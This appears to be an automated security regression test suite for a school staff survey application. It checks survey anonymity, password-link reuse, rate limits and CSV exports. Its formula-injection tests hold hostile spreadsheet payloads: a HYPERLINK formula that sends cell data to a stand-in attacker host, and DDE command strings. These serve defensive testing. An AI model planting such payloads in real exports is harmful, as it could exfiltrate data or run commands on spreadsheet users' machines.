import { afterEach, beforeEach, describe, expect, it } from 'vitest'
import { buildApp } from '../../../server/app.ts'
import { createAuthService } from '../../../server/modules/auth/auth.service.ts'
import { createOrganisationService } from '../../../server/modules/organisations/organisations.service.ts'
import { ApiErrorSchema } from '../../../shared/errors.ts'
import { generateResponses } from '../../../shared/domain/synthetic.ts'
import type { RoleId } from '../../../shared/instrument/types.ts'
import type { SubmitResponseBody } from '../../../shared/schemas/forms.ts'
import type { App } from '../../helpers/app.ts'
import { DAY } from '../../helpers/fixtures.ts'
import { countRows, testDatabases } from '../../helpers/test-db.ts'
import { as, openSurveyAsSchoolLeader, PASSWORD, reportAsSchoolLeader, useWorld, type Who } from '../../helpers/world.ts'
import { CURRENT_INSTRUMENT_ID, requireInstrument } from '../../../shared/instrument/versions.ts'
import { parseCsv } from '../../helpers/csv.ts'

/** The questionnaire of a new survey: these tests store and read what a survey of it takes. */
const instrument = requireInstrument(CURRENT_INSTRUMENT_ID)

// Attack tests for issue 9, items 6, 7, 8, 10, 11 and 12: each plays a curious or hostile user
// through the HTTP API and asserts that the attack gains nothing. Keep them as a regression suite.

describe.each(testDatabases())('attacks on %s', (kind) => {
  const t = useWorld(kind, { loginRateLimit: 1000 })

  const request = (who: Who, method: 'GET' | 'POST' | 'PATCH', url: string, payload?: object) =>
    t.app.inject({ method, url, headers: as(t.world, who), ...(payload ? { payload } : {}) })
  const leader = (method: 'GET' | 'POST' | 'PATCH', url: string, payload?: object) => request('schoolLeader', method, url, payload)
  const report = (surveyId: number) => reportAsSchoolLeader(t.app, t.world, surveyId)
  const newSurvey = (body: object = {}) => openSurveyAsSchoolLeader(t.app, t.world, t.now, body)
  const submit = async (token: string, bodies: SubmitResponseBody[]) => {
    for (const body of bodies) expect((await t.app.inject({ method: 'POST', url: `/api/forms/${token}/responses`, payload: body })).statusCode).toBe(201)
  }
  const close = async (id: number) => expect((await leader('POST', `/api/surveys/${id}/close`)).statusCode).toBe(200)

  /** `n` synthetic responses, each given the role (null: not stated). */
  const responses = (roles: [RoleId | null, number][], seed = 9) => {
    const total = roles.reduce((sum, [, n]) => sum + n, 0)
    const bodies = generateResponses({ instrument, pattern: 4, respondents: total, seed })
    const withRoles = roles.flatMap(([role, n]) => Array.from({ length: n }, () => role))
    return bodies.map((body, i) => ({ ...body, role: withRoles[i]! }))
  }

  describe('9.6 withheld role groups', () => {
    it('a leader cannot tell from the withheld-groups list whether a lone senior leader answered', async () => {
      // Two closed surveys of 14 with the same groups shown; in one a single senior leader took part.
      const withSenior = await newSurvey()
      await submit(withSenior.token, responses([['teacher', 8], ['middle_leader', 3], [null, 2], ['senior_leader', 1]]))
      await close(withSenior.id)
      const withoutSenior = await newSurvey()
      await submit(withoutSenior.token, responses([['teacher', 8], ['middle_leader', 3], [null, 3]]))
      await close(withoutSenior.id)

      const a = await report(withSenior.id)
      const b = await report(withoutSenior.id)
      expect(a.groups.map((g) => g.group)).toEqual(['teacher'])
      expect(a.hiddenGroups).toEqual(b.hiddenGroups)
      expect(a.hiddenGroups.map((h) => h.group)).toEqual(['senior_leader', 'middle_leader', 'support_staff', 'other', 'unstated'])
      expect(a.suppression).toEqual(b.suppression)
      const withheldRows = (csv: string) => csv.split('\r\n').filter((line) => line.startsWith('suppressed,')).join('\n')
      const csvOf = async (id: number) => (await leader('GET', `/api/surveys/${id}/report.csv`)).body
      expect(withheldRows(await csvOf(withSenior.id))).toBe(withheldRows(await csvOf(withoutSenior.id)))
    })
  })

  describe('9.7 agree, neutral and disagree shares', () => {
    it('a leader reading the shares is told which withheld statement they leave out, and cannot recover its answers from them', async () => {
      const scale = instrument.scales[0]!
      const [withheld, ...shown] = scale.items
      // 6 respondents; only 4 (< k = 5) give an answer to the first statement, the rest say "Don't know"
      const bodies = generateResponses({ instrument, pattern: 4, respondents: 6, seed: 77, dontKnowRate: 0, skipRate: 0 })
        .map((body, i) => (i < 2 ? { ...body, answers: { ...body.answers, [withheld!.id]: null } } : body))
      const { id, token } = await newSurvey()
      await submit(token, bodies)
      await close(id)
      const got = (await report(id)).scales.find((s) => s.id === scale.id)!
      expect(got.items[0]!.counts).toBeNull()
      expect(got.sharesLeaveOut).toEqual([withheld!.id])
      // the shares are exactly those of the statements shown: nothing of the withheld one is in them
      const totals = [0, 0, 0, 0, 0]
      for (const item of got.items.slice(1)) item.counts!.forEach((c, i) => (totals[i]! += c))
      const answered = totals.reduce((a, b) => a + b, 0)
      expect(shown.length).toBe(got.items.length - 1)
      expect(got.favourable).toBeCloseTo((totals[3]! + totals[4]!) / answered, 10)
      expect(got.neutral).toBeCloseTo(totals[2]! / answered, 10)
      expect(got.unfavourable).toBeCloseTo((totals[0]! + totals[1]!) / answered, 10)
      const full = await report(id)
      expect(full.suppression).toContain(`${scale.name}: the agree, neutral and disagree shares leave out 1 statement that fewer than 5 people answered.`)
      const csv = (await leader('GET', `/api/surveys/${id}/report.csv`)).body
      expect(csv).toContain('leave out 1 statement that fewer than 5 people answered')
    })
  })

  describe('9.8 CSV formula injection', () => {
    const FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"open")', '+cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0', '\t=1+1', '\r=1+1']

    /** Every cell a spreadsheet would read that is text and begins like a formula. */
    const formulaCells = (csv: string) =>
      parseCsv(csv).flat().filter((cell) => /^[=+\-@\t\r]/.test(cell) && Number.isNaN(Number(cell)))

    it.each(FORMULAS.map((f) => [JSON.stringify(f), f]))('a school leader plants %s in a survey title and a school name for the trust leader, and no export runs it', async (_, formula) => {
      const res = await leader('POST', `/api/schools/${t.world.schoolA1}/surveys`, {
        title: `${formula} survey`,
        opensAt: new Date(t.now.getTime() - DAY).toISOString(),
        closesAt: new Date(t.now.getTime() + 10 * DAY).toISOString(),
      })
      expect(res.statusCode).toBe(201)
      const surveyId = (res.json() as { id: number }).id
      await createOrganisationService({ db: t.db }).createSchool({ name: `${formula} school`, trustId: t.world.trustA })

      const reportCsv = (await request('trustLeader', 'GET', `/api/surveys/${surveyId}/report.csv`)).body
      const overviewCsv = (await request('trustLeader', 'GET', `/api/trusts/${t.world.trustA}/overview.csv`)).body
      // the planted text is there (names are trimmed when stored), as text: a single quote in front
      expect(parseCsv(reportCsv).flat()).toContain(`'${formula.trim()} survey`)
      expect(parseCsv(overviewCsv).flat()).toContain(`'${formula.trim()} school`)
      expect(formulaCells(reportCsv)).toEqual([])
      expect(formulaCells(overviewCsv)).toEqual([])
    })
  })

  describe('9.10 text that cannot be stored or seen', () => {
    const BAD_TEXT: [string, string, RegExp][] = [
      ['a NUL byte', 'Autumn\u0000 survey', /NUL character/],
      ['a lone surrogate', 'Autumn \uD83D survey', /broken character/],
      ['only invisible characters', '\u200B\u3164\u200D\u2800\u00A0\u2060', /at least 3 visible characters/],
    ]
    const expect400 = (res: { statusCode: number; json: () => unknown }, message: RegExp) => {
      expect(res.statusCode).toBe(400)
      const body = ApiErrorSchema.parse(res.json())
      expect(body.error.code).toBe('VALIDATION_FAILED')
      expect(`${body.error.message} ${JSON.stringify(body.error.issues ?? [])}`).toMatch(message)
    }

    it.each(BAD_TEXT)('a survey title with %s is refused with a 400 that says why, and nothing is written', async (_, title, message) => {
      const before = await countRows(t.db, 'surveys')
      const created = await leader('POST', `/api/schools/${t.world.schoolA1}/surveys`, {
        title, opensAt: new Date(t.now.getTime() - DAY).toISOString(), closesAt: new Date(t.now.getTime() + 10 * DAY).toISOString(),
      })
      expect400(created, message)
      expect(await countRows(t.db, 'surveys')).toBe(before)
      const renamed = await leader('PATCH', `/api/surveys/${t.world.surveyA1}`, { title })
      expect400(renamed, message)
      const stored = await t.db.selectFrom('surveys').select('title').where('id', '=', t.world.surveyA1).executeTakeFirstOrThrow()
      expect(stored.title).toBe('Alder One autumn survey')
    })

    it.each(BAD_TEXT.slice(0, 2))('a comment with %s is refused with a 400 that says why, and nothing is written', async (_, text, message) => {
      const body = { ...responses([['teacher', 1]])[0]!, comments: { helps: `Time to plan ${text}`, hinders: 'Meetings' } }
      const res = await t.app.inject({ method: 'POST', url: `/api/forms/${t.world.tokenB1}/responses`, payload: body })
      expect400(res, message)
      expect(await countRows(t.db, 'responses')).toBe(0)
      expect(await countRows(t.db, 'comments')).toBe(0)
      // the same comment without the bad character is stored, line breaks, tabs and emoji kept
      const fine = { ...body, comments: { helps: 'Time to plan\r\nand\ttalk 👍', hinders: '' } }
      expect((await t.app.inject({ method: 'POST', url: `/api/forms/${t.world.tokenB1}/responses`, payload: fine })).statusCode).toBe(201)
    })

    it.each(BAD_TEXT)('a school, trust or leader name with %s is refused with a message that says why', async (_, name, message) => {
      const organisations = createOrganisationService({ db: t.db })
      const bad = name.replace('Autumn', 'Oak').replace(' survey', ' School')
      message = new RegExp(message.source.replace('3 visible', '2 visible'))
      await expect(organisations.createSchool({ name: bad, trustId: t.world.trustA })).rejects.toThrow(message)
      await expect(organisations.createTrust({ name: bad })).rejects.toThrow(message)
      await expect(organisations.createLeader({ email: 'new@example.org', displayName: bad })).rejects.toThrow(message)
      expect(await t.db.selectFrom('schools').select('id').execute()).toHaveLength(3)
      expect(await t.db.selectFrom('leaders').select('id').where('email', '=', 'new@example.org').execute()).toHaveLength(0)
    })
  })

  describe('9.11 one-time links', () => {
    const setPassword = (link: string, newPassword: string) =>
      t.app.inject({ method: 'POST', url: '/api/auth/password-links', payload: { token: link.split('#')[1], newPassword } })
    const signIn = (password: string) => t.app.inject({ method: 'POST', url: '/api/auth/login', payload: { email: t.world.emails.trustLeader, password } })

    it('an older reset link stolen from a mailbox no longer works once a newer one was used and the password changed', async () => {
      const auth = createAuthService({ db: t.db, now: () => t.now })
      const older = await auth.createPasswordLink(t.world.emails.trustLeader, 'reset', 'http://127.0.0.1:3000')
      const newer = await auth.createPasswordLink(t.world.emails.trustLeader, 'reset', 'http://127.0.0.1:3000')
      expect((await setPassword(newer, 'the leader chose this one')).statusCode).toBe(200)
      const attack = await setPassword(older, 'the attacker chose this')
      expect(attack.statusCode).toBe(404)
      expect((await signIn('the leader chose this one')).statusCode).toBe(200)
      expect((await signIn('the attacker chose this')).statusCode).toBe(401)
    })

    it('an invitation link issued before a reset link stops working when the reset link is issued', async () => {
      const auth = createAuthService({ db: t.db, now: () => t.now })
      const invitation = await auth.createPasswordLink(t.world.emails.trustLeader, 'invite', 'http://127.0.0.1:3000')
      await auth.createPasswordLink(t.world.emails.trustLeader, 'reset', 'http://127.0.0.1:3000')
      expect((await setPassword(invitation, 'the attacker chose this')).statusCode).toBe(404)
      expect((await signIn(PASSWORD)).statusCode).toBe(200)
    })

    it('an outstanding link stops working when the leader changes their password while signed in', async () => {
      const auth = createAuthService({ db: t.db, now: () => t.now })
      const link = await auth.createPasswordLink(t.world.emails.trustLeader, 'reset', 'http://127.0.0.1:3000')
      // issuing a reset link signed the leader out: they sign in again with their password
      const signedIn = await signIn(PASSWORD)
      expect(signedIn.statusCode).toBe(200)
      const cookie = String([signedIn.headers['set-cookie']].flat()[0]).split(';')[0]!
      const csrf = (signedIn.json() as { csrfToken: string }).csrfToken
      const changed = await t.app.inject({ method: 'POST', url: '/api/auth/password', headers: { cookie, 'x-csrf-token': csrf }, payload: { currentPassword: PASSWORD, newPassword: 'a fresh password of mine' } })
      expect(changed.statusCode).toBe(200)
      expect((await setPassword(link, 'the attacker chose this')).statusCode).toBe(404)
      expect((await signIn('a fresh password of mine')).statusCode).toBe(200)
    })
  })

  describe('9.12 throttles and rate limits across instances', () => {
    const GUESSER = '203.0.113.7'
    const LEADER_HOME = '198.51.100.20'
    let second: App
    let third: App
    beforeEach(async () => {
      // two more instances of the app on the same database, as behind a load balancer
      second = await buildApp({ db: t.db, now: () => t.now, loginRateLimit: 1000 })
      third = await buildApp({ db: t.db, now: () => t.now, loginRateLimit: 4 })
    })
    afterEach(async () => {
      await second.close()
      await third.close()
    })
    const login = (on: App, remoteAddress: string, password: string) =>
      on.inject({ method: 'POST', url: '/api/auth/login', remoteAddress, payload: { email: t.world.emails.schoolLeader, password } })

    it('a guesser spreading wrong passwords over two instances is throttled after five in all, while the real leader signs in from elsewhere', async () => {
      const statuses: number[] = []
      for (let i = 0; i < 6; i++) statuses.push((await login(i % 2 === 0 ? t.app : second, GUESSER, `guess number ${i}`)).statusCode)
      expect(statuses).toEqual([401, 401, 401, 401, 401, 429])
      // the guesser is slowed on both instances, even with the right password
      expect((await login(t.app, GUESSER, PASSWORD)).statusCode).toBe(429)
      expect((await login(second, GUESSER, PASSWORD)).statusCode).toBe(429)
      // the real leader, from another address, is not locked out, on either instance
      expect((await login(t.app, LEADER_HOME, PASSWORD)).statusCode).toBe(200)
      expect((await login(second, LEADER_HOME, PASSWORD)).statusCode).toBe(200)
      // after the window the guesser may try again (and is slowed again after five more)
      t.now = new Date(t.now.getTime() + 16 * 60_000)
      expect((await login(second, GUESSER, 'guess after the wait')).statusCode).toBe(401)
    })

    it('a client sending sign-in attempts to two instances meets the per-address limit once, not once per instance', async () => {
      const fourth = await buildApp({ db: t.db, now: () => t.now, loginRateLimit: 4 })
      try {
        const statuses: number[] = []
        for (let i = 0; i < 6; i++) {
          const res = await (i % 2 === 0 ? third : fourth).inject({ method: 'POST', url: '/api/auth/login', remoteAddress: GUESSER, payload: { email: `x${i}@example.org`, password: 'x' } })
          statuses.push(res.statusCode)
        }
        expect(statuses).toEqual([401, 401, 401, 401, 429, 429])
        // another address is not affected
        const other = await fourth.inject({ method: 'POST', url: '/api/auth/login', remoteAddress: LEADER_HOME, payload: { email: t.world.emails.schoolLeader, password: PASSWORD } })
        expect(other.statusCode).toBe(200)
      } finally {
        await fourth.close()
      }
    })

    it('a flood sent all at once to two instances meets the per-address limit exactly: never more, never fewer', async () => {
      // Each instance counts the requests that arrive together in one statement; the numbers they
      // get must still be those of one request at a time.
      const limited = [await buildApp({ db: t.db, now: () => t.now, submitRateLimit: 25 }), await buildApp({ db: t.db, now: () => t.now, submitRateLimit: 25 })]
      try {
        const flood = (from: string) =>
          Promise.all(Array.from({ length: 60 }, (_, i) => limited[i % 2]!.inject({ method: 'POST', url: '/api/forms/no-such-survey/responses', remoteAddress: from, payload: {} })))
        const [guesser, bystander] = await Promise.all([flood(GUESSER), flood(LEADER_HOME)])
        for (const answers of [guesser, bystander]) {
          const statuses = answers.map((res) => res.statusCode)
          expect(statuses.filter((s) => s === 429)).toHaveLength(35)
          expect(statuses.filter((s) => s !== 429).every((s) => s === 400 || s === 404)).toBe(true)
          // the limit's headers count down as one instance's would
          expect(answers.map((res) => Number(res.headers['x-ratelimit-remaining'])).sort((a, b) => a - b)).toEqual([...Array(35).fill(0), ...Array.from({ length: 25 }, (_, i) => i)])
        }
      } finally {
        await Promise.all(limited.map((app) => app.close()))
      }
    })
  })
})
